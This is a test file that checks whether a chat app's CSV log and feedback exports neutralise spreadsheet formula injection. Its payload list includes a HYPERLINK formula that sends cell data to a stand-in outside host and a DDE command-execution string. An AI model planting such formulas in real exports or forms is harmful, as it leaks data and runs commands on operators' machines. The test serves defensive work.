import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ConsoleSession, startTestServer, type TestApp, type TestServer } from '../test-server.ts'

/** What visitors write comes to an operator as a spreadsheet, which would run it as a formula. */
const formulas = ['=HYPERLINK("https://stranger.example.com?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '＝1+1']
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/u

describe('CSV injection', () => {
  let server: TestServer
  let session: ConsoleSession
  let app: TestApp
  beforeAll(async () => {
    server = await startTestServer()
    session = await server.setup()
    app = await server.createApp(session, { mode: 'chat' })
    for (const formula of formulas) {
      const turn = { inputs: { name: formula }, query: formula, user: formula, response_mode: 'blocking' }
      const { body } = await app.send('POST', '/chat-messages', turn)
      await app.send('POST', `/messages/${body.message_id}/feedbacks`, { rating: 'dislike', content: formula, user: formula })
      await app.send('POST', `/conversations/${body.conversation_id}/name`, { name: formula, user: formula })
    }
  })
  afterAll(() => server.close())

  it.each(['/logs/export', '/feedbacks/export'])('does not come with %s', async (path) => {
    const text = await (await session.fetch('GET', `/apps/${app.id}${path}?format=csv`)).text()
    const { data } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''))
    const cells = data.flat()
    for (const formula of formulas) expect(cells).toContain(`'${formula}`)
    expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([])
  })
})
